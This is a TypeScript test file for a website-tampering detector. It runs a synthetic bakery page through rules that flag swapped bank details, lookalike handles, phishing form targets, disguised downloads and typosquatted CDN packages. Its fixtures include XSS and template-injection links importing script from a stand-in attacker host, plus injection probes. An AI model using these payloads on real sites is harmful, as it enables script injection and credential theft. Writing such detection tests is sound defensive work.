/**
 * The rules of round 23 (tuned on fresh27 and fresh28 after their first
 * looks), on the hand-written bakery page: each with the change it catches
 * and the honest change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

const withBank = (extra: string) => (seed: number) => page({ seed, body: `<section class="pay"><p>Pay by bank transfer: IBAN GB33 BUKB 2020 1555 5555 55</p><p>Tips welcome at <a href="https://revolut.me/harbourbakery">revolut.me/harbourbakery</a></p>${extra}</section>` })
const bank = baselineOf(samples(withBank("")))

describe("round 23: identifiers wherever a visitor takes them from", () => {
  it("a read-only copy box holding another number alerts; one holding the site's own number does not", () => {
    const box = (value: string) => verdictOf(page({ seed: 4, phone: `<input type="text" readonly value="${value}" size="13"> <button type="button" onclick="navigator.clipboard.writeText(this.previousElementSibling.value)">Copy</button>` }))
    expect(breaches(box("01947 600 123"))).toEqual([])
    expect(breaches(box("01947 600 871"))).toContain("identifiers/phone_changed")
  })

  it("a payment link (payto:) to another IBAN under the site's IBAN alerts; one to the same IBAN does not", () => {
    const link = (iban: string) => verdictOf(withBank(`<p><a href="payto://iban/${iban}?receiver-name=Harbour%20Bakery">Pay with your banking app</a></p>`)(4), bank)
    expect(breaches(link("GB33BUKB20201555555555"))).toEqual([])
    expect(breaches(link("GB94BARC10201530093459"))).toContain("identifiers/iban_appeared")
  })

  it("an account named like the site's with a character added or doubled alerts; the site's own account, or its name with a word added, does not", () => {
    const pay = verdictOf(withBank(`<p><a href="https://revolut.me/harbourbakeryy">Pay in the app</a></p>`)(4), bank)
    expect(breaches(pay)).toContain("identifiers/pay_lookalike")
    const feed = (handle: string) => verdictOf(page({ seed: 4, body: `<div class="follow"><h3>Follow us on Instagram</h3><blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/${handle}/"><a href="https://www.instagram.com/${handle}/">@${handle}</a></blockquote><script async src="//www.instagram.com/embed.js"></script></div>` }))
    expect(breaches(feed("harbourbakerywhitby"))).toEqual([])
    expect(breaches(feed("harbourbakeryywhitby"))).toContain("identifiers/social_lookalike")
    // (organisations name their accounts on each network as they can: "_official" or "team" added is often theirs)
    expect(breaches(feed("harbourbakerywhitby_official"))).toEqual([])
  })

  it("a line that disowns numbers used by fraudsters is a warning; the same numbers offered are an alarm", () => {
    const warning = verdictOf(page({ seed: 4, body: `<section class="notice"><h3>Beware of fraudsters using our name</h3><ul><li><s>07700 900 555</s> — not ours</li><li><s>harbourbakery.orders@gmail.com</s> — not ours</li></ul><p>We only use 01947 600 123.</p></section>` }))
    expect(breaches(warning)).toEqual([])
    const offered = verdictOf(page({ seed: 4, top: `<section class="notice"><h3>New order line</h3><p>Call 07700 900 555 or write to harbourbakery.orders@gmail.com</p></section>` }))
    expect(breaches(offered).length).toBeGreaterThan(0)
  })
})

describe("round 23: where the page sends visitors", () => {
  it("the site's own link moved to its host on another port alerts; a new control-panel link on a port is left alone", () => {
    const moved = verdictOf(page({ seed: 4 }).replace(`href="/order"`, `href="https://www.harbourbakery.co.uk:4443/order"`))
    expect(breaches(moved)).toContain("destinations/link_other_port")
    const panel = verdictOf(page({ seed: 4, body: `<p class="staff"><a href="https://www.harbourbakery.co.uk:2096/">Staff webmail</a></p>` }))
    expect(breaches(panel)).toEqual([])
  })

  it("a link carrying script in its query alerts; a search link does not", () => {
    const xss = verdictOf(page({ seed: 4, body: `<p><a href="/search?q=%22%3E%3Csvg%20onload%3Dimport('https://cdn-harbour.top/x.js')%3E">opening hours</a></p>` }))
    expect(breaches(xss)).toContain("destinations/link_injection")
    const template = verdictOf(page({ seed: 4, body: `<p><a href="/search?q={{constructor.constructor('import(&quot;https://cdn-harbour.top/x.js&quot;)')()}}">cakes</a></p>` }))
    expect(breaches(template)).toContain("destinations/link_injection")
    const search = verdictOf(page({ seed: 4, body: `<p><a href="/search?q=lemon+drizzle&amp;sort=new">lemon drizzle</a></p>` }))
    expect(breaches(search)).toEqual([])
  })

  it("a program named as a document alerts; the document itself does not", () => {
    const disguised = verdictOf(page({ seed: 4, body: `<p><a href="/files/price-list-2026.pdf.exe">Price list</a> (PDF, 230 KB)</p>` }))
    expect(breaches(disguised)).toContain("destinations/download_disguised")
    const pdf = verdictOf(page({ seed: 4, body: `<p><a href="/files/price-list-2026.pdf">Price list</a> (PDF, 230 KB)</p>` }))
    expect(breaches(pdf)).toEqual([])
  })

  it("a file on a sharing host with its password beside it alerts; a shared folder of photos does not", () => {
    const locked = verdictOf(page({ seed: 4, body: `<p>Download: <a href="https://gofile.io/d/w773h3">Price list</a> (ZIP, 15 MB). The archive is password-protected. Password: 1234</p>` }))
    expect(breaches(locked)).toContain("destinations/download_locked")
    const photos = verdictOf(page({ seed: 4, body: `<p>Photos from the summer fair are in <a href="https://www.dropbox.com/sh/abc123/harbour-fair">our shared album</a>.</p>` }))
    expect(breaches(photos)).toEqual([])
  })

  it("the login form moved to a script among the site's images alerts; moved to the CMS's own handler it does not", () => {
    const collector = verdictOf(page({ seed: 4, loginAction: "/static/images/m.php" }))
    expect(breaches(collector)).toContain("destinations/form_collector")
    const handler = verdictOf(page({ seed: 4, loginAction: "/wp-admin/admin-post.php" }).replace(`<button>Sign in</button>`, `<input type="hidden" name="action" value="hb_login"><button>Sign in</button>`))
    expect(breaches(handler)).toEqual([])
  })

  it("the page's own form handed to a form service alerts; a new contact form there is reported", () => {
    const newsletter = (action: string, hidden: string) => (seed: number) => page({ seed, body: `<form class="newsletter" action="${action}" method="post"><input type="email" name="email" placeholder="Your e-mail">${hidden}<button>Subscribe</button></form>` })
    const base = baselineOf(samples(newsletter("/newsletter/subscribe", "")))
    const handed = verdictOf(newsletter("https://getform.io/f/pkyosgni", `<input type="hidden" name="_next" value="https://www.harbourbakery.co.uk/">`)(4), base)
    expect(breaches(handed)).toContain("destinations/form_retargeted")
    const contact = verdictOf(page({ seed: 4, body: `<form action="https://formspree.io/f/xyzabcd" method="post"><input name="name"><input name="email"><textarea name="message"></textarea><button>Send</button></form>` }))
    expect(breaches(contact)).toEqual([])
  })

  it("settings in JSON with escaped slashes that load code from a new host alert; WordPress's own emoji settings do not", () => {
    const emoji = (host: string) => verdictOf(page({ seed: 4, head: `<script>window._wpemojiSettings = {"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/15.0.3\\/72x72\\/","source":{"concatemoji":"https:\\/\\/${host}\\/wp-includes\\/js\\/wp-emoji-release.min.js?ver=6.7.1"}};</script>` }))
    expect(breaches(emoji("www.harbourbakery.co.uk"))).toEqual([])
    expect(breaches(emoji("api-harbour.shop"))).toContain("destinations/inline_script_new_domain")
  })

  it("a framework island whose modules come from a new host alerts; one on the site's own host does not", () => {
    const island = (base: string) => verdictOf(page({ seed: 4, body: `<astro-island uid="z1" component-url="${base}/_astro/ShareBar.qFETMCiS.js" renderer-url="${base}/_astro/client.ZyS1nYtG.js" props="{}" client="load"></astro-island>` }))
    expect(breaches(island(""))).toEqual([])
    expect(breaches(island("https://harbourbakery-pay.com"))).toContain("destinations/script_new_domain")
  })

  it("sign-in delegated to an unknown host alerts; to indieauth.com it does not", () => {
    const delegated = (host: string) => verdictOf(page({ seed: 4, head: `<link rel="authorization_endpoint" href="https://${host}/auth"><link rel="token_endpoint" href="https://${host}/token">` }))
    expect(breaches(delegated("indieauth.com"))).toEqual([])
    expect(breaches(delegated("auth.harbour-login.online"))).toContain("destinations/identity_delegated")
  })

  it("a combined CDN file with a package named like a popular one alerts; jQuery with its migrate plugin does not", () => {
    const combined = (pkgs: string) => verdictOf(page({ seed: 4, head: `<script src="https://cdn.jsdelivr.net/combine/${pkgs}" defer></script>` }))
    expect(breaches(combined("npm/jquery@3.7.1/dist/jquery.min.js,npm/jquery-migrate@3.4.1"))).toEqual([])
    expect(breaches(combined("npm/jquery@3.7.1/dist/jquery.min.js,npm/axios-http-client@3.7.7"))).toContain("destinations/package_lookalike")
  })
})

describe("round 23: honest rebuilds and renames", () => {
  it("the site's own files renamed into a new build folder on its host are reported; the same files gone alerts", () => {
    const site = (files: ReadonlyArray<string>) => (seed: number) => page({ seed, head: files.map((f) => f.endsWith(".css") ? `<link rel="stylesheet" href="${f}">` : `<script src="${f}"></script>`).join("") })
    const base = baselineOf(samples(site(["/resources/js/common.js", "/resources/js/menu.js", "/skins/main.css", "/skins/print.css"])))
    const rebuilt = verdictOf(site(["/_app/immutable/chunks/common.60cd83cb.js", "/_app/immutable/chunks/menu.1edd68ba.js", "/_app/immutable/chunks/main.88a4d284.css", "/_app/immutable/chunks/print.5c549711.css"])(4), base)
    expect(checks(rebuilt)).toContain("integrity/assets_rebuilt")
    expect(breaches(rebuilt)).toEqual([])
    const gone = verdictOf(site([])(4), base)
    expect(breaches(gone)).toContain("integrity/assets_removed")
  })

  it("a library moved to an open CDN that serves it by name and version is reported; moved to an unknown host it alerts", () => {
    const lib = (src: string) => (seed: number) => page({ seed, head: `<script src="${src}" integrity="sha384-x" crossorigin="anonymous"></script>` })
    const base = baselineOf(samples(lib("https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js")))
    expect(breaches(verdictOf(lib("https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js")(4), base))).toEqual([])
    expect(breaches(verdictOf(lib("https://jquery-cdn.top/3.7.1/jquery.min.js")(4), base))).toContain("destinations/script_retargeted")
  })

  it("the site's page renamed to the site's own name is reported; another page in its place alerts", () => {
    const plugin = (handle: string) => (seed: number) => page({ seed, body: `<iframe src="https://www.facebook.com/plugins/page.php?href=https%3A%2F%2Fwww.facebook.com%2F${handle}&amp;tabs=timeline" width="340" height="500"></iframe>` })
    const base = baselineOf(samples(plugin("HarbourCafeWhitby")))
    expect(breaches(verdictOf(plugin("harbourbakery")(4), base))).toEqual([])
    expect(breaches(verdictOf(plugin("whitbyseafoodoffers")(4), base))).toContain("identifiers/social_changed")
  })

  it("rel=me to a mailbox on the site's own domain is the site's; to a stranger's account it alerts", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<link rel="me" href="mailto:orders@harbourbakery.co.uk">` })))).toEqual([])
    expect(breaches(verdictOf(page({ seed: 4, head: `<link rel="me" href="https://mastodon.social/@cryptodeals">` })))).toContain("identifiers/identity_vouched")
  })
})

describe("round 23: what a visitor reads", () => {
  it("an injection's probe left in the text or a proof-of-concept handler alerts; a price in braces does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, main: `<p>This season we are baking rye and caraway loaves, cardamom buns and a lemon drizzle {{7*7}} that regulars queue for.</p>` })))).toContain("visible_text/injection_probe")
    expect(breaches(verdictOf(page({ seed: 4, body: `<svg/onload=confirm(document.domain)>` })))).toContain("destinations/script_probe")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Gift boxes {from £12} and hampers {to order}: ask at the counter.</p>` })))).toEqual([])
  })

  it("a news report quoting another site's defacement message is the site's news; the message as a heading alerts", () => {
    const report = verdictOf(page({ seed: 4, body: `<article class="brief"><h3>Website of a university library defaced</h3><p>On 24 August visitors to the website of a university library found its home page replaced by a message reading “Hacked by Joker_spectre — your security is an illusion”, signed by a group calling itself Joker_spectre. The site was taken offline and restored from a backup the same day; the library said no personal data had been accessed.</p><p><a href="https://apnews.com/technology/library-defaced-685584">Read the full report</a></p></article>` }))
    expect(breaches(report)).toEqual([])
    const message = verdictOf(page({ seed: 4, top: `<h1>Hacked by Joker_spectre</h1><p>Your security is an illusion.</p>` }))
    expect(breaches(message)).toContain("visible_text/signature")
  })

  it("a fifth of the page's text cut with nothing in its place is a sign", () => {
    const cut = verdictOf(page({ seed: 4, main: "" }))
    expect(checks(cut)).toContain("visible_text/text_removed")
    expect(checks(verdictOf(page({ seed: 4 })))).not.toContain("visible_text/text_removed")
  })
})
